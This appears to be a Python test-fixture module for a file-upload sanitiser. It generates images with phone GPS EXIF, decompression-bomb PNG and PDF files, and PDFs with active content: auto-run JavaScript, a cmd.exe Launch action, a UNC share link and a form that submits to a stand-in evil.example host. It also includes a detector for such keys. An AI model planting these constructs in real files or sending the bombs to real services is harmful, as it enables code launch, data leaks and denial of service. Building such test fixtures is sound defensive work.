"""Test files made in code (Pillow, pikepdf, raw bytes): good scans and photos, spoofs, bombs, active PDFs."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Iterator

import pikepdf
from PIL import Image, ImageCms, PngImagePlugin

ACCEPT_ALL = ["application/pdf", "image/jpeg", "image/png"]
TEN_MB = 10 * 1024 * 1024
GPS_IFD = 0x8825
ORIENTATION = 0x0112


def jpeg(size: tuple[int, int] = (64, 48), color: str = "white", *, mode: str = "RGB", **save: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, color).save(out, "JPEG", **save)
    return out.getvalue()


def png(size: tuple[int, int] = (64, 48), color: object = "white", *, mode: str = "RGB", **save: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, color).save(out, "PNG", **save)
    return out.getvalue()


def phone_photo_exif(orientation: int | None = 6) -> Image.Exif:
    """EXIF as a phone writes it: where the photo was taken, which camera, and how to turn it."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    if orientation is not None:
        exif[ORIENTATION] = orientation
    gps = exif.get_ifd(GPS_IFD)
    gps[1] = "N"
    gps[2] = (21.0, 1.0, 30.0)
    gps[3] = "E"
    gps[4] = (105.0, 50.0, 12.0)
    return exif


def sideways_photo() -> bytes:
    """200×100 as stored, left half red and right half blue, tagged "rotate 90° clockwise to view"."""
    image = Image.new("RGB", (200, 100), "red")
    image.paste((0, 0, 255), (100, 0, 200, 100))
    out = io.BytesIO()
    image.save(out, "JPEG", exif=phone_photo_exif(6), quality=95)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int) -> bytes:
    """A valid 1-bit PNG of width×height that compresses to almost nothing (20000×20000 is about 48 KB)."""
    row = b"\0" * (1 + (width + 7) // 8)  # filter byte + packed bits
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def srgb_icc() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def png_with_text(text: str) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    return png(pnginfo=info)


# --- PDFs -----------------------------------------------------------------------------------------------


def _save(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def plain_pdf(pages: int = 1) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    return _save(pdf)


def _link(action: pikepdf.Dictionary) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=action)


def _js(code: str = "app.alert('pwned')") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def active_pdf(kind: str) -> bytes:
    """A one-page PDF carrying one kind of active content."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0].obj
    name = pikepdf.Name
    if kind == "open_action_js":
        pdf.Root.OpenAction = pdf.make_indirect(_js())
    elif kind == "names_javascript":
        pdf.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), pdf.make_indirect(_js())]))
        )
    elif kind == "launch_link":
        action = pikepdf.Dictionary(S=name.Launch, F=pikepdf.String("cmd.exe"), Win=pikepdf.Dictionary())
        page.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(_link(action))]))
    elif kind == "javascript_link":
        page.Annots = pikepdf.Array([_link(_js())])
    elif kind == "javascript_uri":
        page.Annots = pikepdf.Array([_link(pikepdf.Dictionary(S=name.URI, URI=pikepdf.String("javascript:x()")))])
    elif kind == "unc_gotor":
        action = pikepdf.Dictionary(S=name.GoToR, F=pikepdf.String("\\\\evil\\share\\a.pdf"), D=pikepdf.Array([0]))
        page.Annots = pikepdf.Array([_link(action)])
    elif kind == "page_aa":
        page.AA = pikepdf.Dictionary(O=_js())
    elif kind == "document_aa":
        pdf.Root.AA = pikepdf.Dictionary(WC=_js())
    elif kind == "embedded_file":
        pdf.attachments["hoa-don.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00payload", mime_type="x/exe")
    elif kind == "file_attachment_annotation":
        spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00payload", filename="x.exe")
        annotation = pikepdf.Dictionary(Type=name.Annot, Subtype=name.FileAttachment, Rect=[0, 0, 10, 10], FS=spec.obj)
        page.Annots = pikepdf.Array([pdf.make_indirect(annotation)])
    elif kind == "chained_next_js":
        first = pikepdf.Dictionary(S=name.GoTo, D=pikepdf.Array([page, name.Fit]), Next=_js())
        page.Annots = pikepdf.Array([_link(first)])
    elif kind == "submit_form_widget":
        widget = pikepdf.Dictionary(
            Type=name.Annot,
            Subtype=name.Widget,
            FT=name.Btn,
            T=pikepdf.String("gui"),
            Rect=[0, 0, 50, 20],
            A=pikepdf.Dictionary(S=name.SubmitForm, F=pikepdf.String("http://evil.example/collect")),
        )
        widget = pdf.make_indirect(widget)
        page.Annots = pikepdf.Array([widget])
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]))
    elif kind == "xfa":
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    elif kind == "rich_media":
        annotation = pikepdf.Dictionary(
            Type=name.Annot,
            Subtype=name.RichMedia,
            Rect=[0, 0, 10, 10],
            RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.Dictionary()),
        )
        page.Annots = pikepdf.Array([annotation])
    else:
        raise ValueError(kind)
    return _save(pdf)


ACTIVE_PDF_KINDS = [
    "open_action_js",
    "names_javascript",
    "launch_link",
    "javascript_link",
    "javascript_uri",
    "unc_gotor",
    "page_aa",
    "document_aa",
    "embedded_file",
    "file_attachment_annotation",
    "chained_next_js",
    "submit_form_widget",
    "xfa",
    "rich_media",
]

_ACTIVE_KEYS = {
    "/JS",
    "/JavaScript",
    "/OpenAction",
    "/AA",
    "/EmbeddedFiles",
    "/EF",
    "/XFA",
    "/RichMediaContent",
}
_ACTIVE_ACTIONS = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/Rendition"}
_ACTIVE_ANNOTATIONS = {"/FileAttachment", "/RichMedia", "/Screen", "/Movie", "/Sound"}


def _walk(obj: pikepdf.Object, seen: set[tuple[int, int]]) -> Iterator[pikepdf.Dictionary]:
    stack = [obj]
    while stack:
        current = stack.pop()
        if isinstance(current, pikepdf.Dictionary | pikepdf.Array | pikepdf.Stream) and current.is_indirect:
            if current.objgen in seen:
                continue
            seen.add(current.objgen)
        if isinstance(current, pikepdf.Stream):
            current = current.stream_dict
        if isinstance(current, pikepdf.Dictionary):
            yield current
            stack.extend(current[key] for key in current)
        elif isinstance(current, pikepdf.Array):
            stack.extend(current)


def active_content(content: bytes) -> set[str]:
    """Every trace of active content anywhere in a PDF, found independently of the code under test."""
    found: set[str] = set()
    with pikepdf.open(io.BytesIO(content)) as pdf:
        if len(pdf.attachments):
            found.add("attachments")
        seen: set[tuple[int, int]] = set()
        roots = [pdf.trailer, *pdf.objects]
        for root in roots:
            for dictionary in _walk(root, seen):
                found.update(key for key in dictionary if key in _ACTIVE_KEYS)
                kind = str(dictionary.get("/S", ""))
                if kind in _ACTIVE_ACTIONS:
                    found.add(f"action {kind}")
                if kind == "/URI" and not str(dictionary.get("/URI", "")).startswith(("http:", "https:")):
                    found.add("action /URI")
                subtype = str(dictionary.get("/Subtype", ""))
                if dictionary.get("/Type") == pikepdf.Name.Annot and subtype in _ACTIVE_ANNOTATIONS:
                    found.add(f"annotation {subtype}")
    return found


def pdf_object_stream_bomb(megabytes: int) -> bytes:
    """A one-page PDF whose catalog sits in an object stream padded with `megabytes` MB of spaces.

    The padding deflates about 1000:1, so a file of a few hundred KB asks the parser for that much memory.
    """
    catalog = b"<< /Type /Catalog /Pages 3 0 R >>"
    first = 3 + megabytes * 1024 * 1024
    compressor = zlib.compressobj(9)
    packed = compressor.compress(b"1 0")
    padding = b" " * (1024 * 1024)
    for _ in range(megabytes):
        packed += compressor.compress(padding)
    packed += compressor.compress(catalog) + compressor.flush()
    parts = [b"%PDF-1.5\n"]
    offsets = {}

    def add(number: int, text: bytes) -> None:
        offsets[number] = sum(len(part) for part in parts)
        parts.append(text)

    add(
        2,
        b"2 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (first, len(packed))
        + packed
        + b"\nendstream\nendobj\n",
    )
    add(3, b"3 0 obj\n<< /Type /Pages /Kids [4 0 R] /Count 1 >>\nendobj\n")
    add(4, b"4 0 obj\n<< /Type /Page /Parent 3 0 R /MediaBox [0 0 100 100] >>\nendobj\n")
    xref_at = sum(len(part) for part in parts)
    # object 1 lives in object stream 2 (type 2 entry); the rest are plain offsets (type 1)
    rows = [
        (0, 0, 65535),
        (2, 2, 0),
        (1, offsets[2], 0),
        (1, offsets[3], 0),
        (1, offsets[4], 0),
        (1, xref_at, 0),
    ]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    parts.append(
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )
    return b"".join(parts)
